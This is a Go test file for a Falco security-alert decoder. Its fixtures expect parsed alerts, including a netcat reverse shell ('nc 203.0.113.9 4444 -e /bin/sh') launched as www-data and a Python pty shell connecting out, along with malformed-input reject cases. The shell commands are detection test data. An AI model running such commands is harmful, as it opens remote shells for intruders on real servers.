package falco

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/rarenet/rarenet/services/ingest/datafeed"
	"github.com/rarenet/rarenet/services/ingest/format"
	"github.com/rarenet/rarenet/services/ingest/format/internal/formattest"
	"github.com/rarenet/rarenet/shared/event"
)

// TestAlertsFixture decodes hand-written alerts of stock-style rules: a netcat connect with
// every field, a dup2 (not a connect, though it prints fd.sip), a shell in a container, an
// alert without evt.type that prints fd.rip, a connect named only by a bracketed IPv6
// fd.name, and a connect to the containerd socket.
func TestAlertsFixture(t *testing.T) {
	lines := formattest.Lines(t, "testdata/alerts.jsonl")
	rs := formattest.Decode(t, New(), "falco.json", lines)
	meta := func(outcome string) event.Meta {
		return event.Meta{Kind: "event", Category: []string{"network"}, Type: []string{"connection", "start"},
			Action: "connect", Outcome: outcome, Module: "falco", Dataset: "falco.alerts"}
	}
	linux := event.OS{Type: "linux"}
	want := []event.Event{
		{
			Timestamp: time.Date(2026, 2, 10, 8, 20, 5, 123456789, time.UTC),
			Event:     meta("unknown"),
			Host:      event.Host{Name: "web-01", OS: linux},
			Process: event.Process{Name: "nc", PID: 31877, Executable: "/usr/bin/nc.openbsd",
				Args:  []string{"nc", "203.0.113.9", "4444", "-e", "/bin/sh"},
				Title: "nc 203.0.113.9 4444 -e /bin/sh", WorkingDirectory: "/var/www/html/", Parent: event.Parent{PID: 31870}},
			User:        event.User{Name: "www-data", ID: "33"},
			Source:      event.Endpoint{IP: "10.20.0.14", Port: 50722},
			Destination: event.Endpoint{IP: "203.0.113.9", Port: 4444},
			Network:     event.Network{Type: "ipv4", Transport: "tcp", Direction: "egress", Family: "inet"},
			Origin:      event.Origin{Source: "falco.json", Line: 1, Format: "falco"},
		},
		{
			Timestamp: time.Date(2026, 2, 10, 8, 22, 10, 100000, time.UTC),
			Event:     meta(""),
			Host:      event.Host{Name: "api-7d9f8", OS: linux},
			Process: event.Process{Name: "python3", Executable: "python3",
				Args: []string{"python3", "-c", "import", "pty"}, Title: "python3 -c import pty"},
			User:        event.User{Name: "root"},
			Source:      event.Endpoint{IP: "2001:db8:20::14", Port: 41020},
			Destination: event.Endpoint{IP: "2001:db8:c2::66", Port: 8443},
			Network:     event.Network{Type: "ipv6", Direction: "egress", Family: "inet6"},
			Origin:      event.Origin{Source: "falco.json", Line: 4, Format: "falco"},
		},
		{
			Timestamp:   time.Date(2026, 2, 10, 8, 23, 0, 0, time.UTC),
			Event:       meta(""),
			Host:        event.Host{Name: "api-7d9f8", OS: linux},
			Process:     event.Process{Name: "kubectl", PID: 4120, Executable: "/usr/local/bin/kubectl"},
			User:        event.User{Name: "app", ID: "1001"},
			Source:      event.Endpoint{IP: "fd00:10:244::9", Port: 38100},
			Destination: event.Endpoint{IP: "fd00:10:96::1", Port: 443},
			Network:     event.Network{Type: "ipv6", Direction: "egress", Family: "inet6"},
			Origin:      event.Origin{Source: "falco.json", Line: 5, Format: "falco"},
		},
		{
			Timestamp:   time.Date(2026, 2, 10, 8, 24, 0, 0, time.UTC),
			Event:       meta(""),
			Host:        event.Host{Name: "web-01", OS: linux},
			Process:     event.Process{Name: "ctr", PID: 5001, Executable: "/usr/bin/ctr"},
			User:        event.User{Name: "root", ID: "0"},
			Destination: event.Endpoint{Path: "/run/containerd/containerd.sock"},
			Network:     event.Network{Family: "unix"},
			Origin:      event.Origin{Source: "falco.json", Line: 6, Format: "falco"},
		},
	}
	if len(rs) != len(want) {
		for _, r := range rs {
			t.Logf("line %d: %+v %v", r.Line, r.Event, r.Err)
		}
		t.Fatalf("got %d results, want %d", len(rs), len(want))
	}
	for i := range want {
		if rs[i].Err != nil {
			t.Fatalf("result %d: %v", i, rs[i].Err)
		}
		if !reflect.DeepEqual(*rs[i].Event, want[i]) {
			t.Errorf("event %d:\n got  %+v\n want %+v", i, *rs[i].Event, want[i])
		}
	}
	filter := datafeed.Default()
	for i, wantReason := range []string{"", "", "", "not network activity: unix socket"} {
		if got := filter.Reason(rs[i].Event); got != wantReason {
			t.Errorf("event %d: filter reason %q, want %q", i, got, wantReason)
		}
	}
}

func TestRejects(t *testing.T) {
	const head = `{"rule":"r","priority":"Notice","time":"2026-02-10T08:20:05Z","output_fields":{"evt.type":"connect",`
	tests := []struct{ name, line, msg string }{
		{"invalid JSON", `{"rule":`, "expected a JSON object, got invalid JSON"},
		{"string", `"alert"`, "expected a JSON object, got a string"},
		{"not an alert", `{"a":1}`, "expected a Falco alert with rule and output_fields, found neither"},
		{"output_fields not an object", `{"rule":"r","output_fields":[]}`, "output_fields: expected an object, got an array"},
		{"bad time", `{"rule":"r","time":"now","output_fields":{"evt.type":"connect"}}`, `time: expected an RFC 3339 time, got "now"`},
		{"no time", `{"rule":"r","output_fields":{"evt.type":"connect"}}`, "time: expected an RFC 3339 time, got nothing"},
		{"bad fd.sip", head + `"fd.sip":"example.com","fd.sport":443}}`, `output_fields.fd.sip: expected an IP address, got "example.com"`},
		{"bad fd.sport", head + `"fd.sip":"1.2.3.4","fd.sport":"https"}}`, `output_fields.fd.sport: expected an integer (0-65535), got "https"`},
		{"bad fd.name", head + `"fd.name":"10.0.0.1:4242"}}`, `output_fields.fd.name: expected a connection tuple like 10.0.0.1:4242->93.184.216.34:443, got "10.0.0.1:4242"`},
		{"fd.name without port", head + `"fd.name":"10.0.0.1->10.0.0.2"}}`, `output_fields.fd.name: expected ip:port at each end, got "10.0.0.1"`},
		{"bad pid", head + `"proc.pid":"one"}}`, `output_fields.proc.pid: expected an integer (0-2147483647), got "one"`},
		{"proc.name an array", head + `"proc.name":["a"]}}`, `output_fields.proc.name: expected a string, got an array`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs := formattest.Decode(t, New(), "t", []string{tt.line})
			if len(rs) != 1 {
				t.Fatalf("got %d results, want 1 reject", len(rs))
			}
			if !errors.Is(rs[0].Err, format.ErrMalformed) {
				t.Fatalf("err = %v, want ErrMalformed", rs[0].Err)
			}
			if !strings.Contains(rs[0].Err.Error(), tt.msg) {
				t.Errorf("message %q lacks %q", rs[0].Err, tt.msg)
			}
		})
	}
}

// TestEvtTimeFallback checks alerts whose sender dropped "time" (some Falcosidekick outputs
// reshape the alert) but kept evt.time.
func TestEvtTimeFallback(t *testing.T) {
	line := `{"rule":"r","output_fields":{"evt.time":1770711605123456789,"fd.sip":"192.0.2.1","fd.sport":443,"proc.name":"curl"}}`
	rs := formattest.Decode(t, New(), "t", []string{line})
	if len(rs) != 1 || rs[0].Err != nil {
		t.Fatalf("results %+v", rs)
	}
	if want := time.Unix(0, 1770711605123456789).UTC(); !rs[0].Event.Timestamp.Equal(want) {
		t.Errorf("@timestamp %v, want %v", rs[0].Event.Timestamp, want)
	}
}
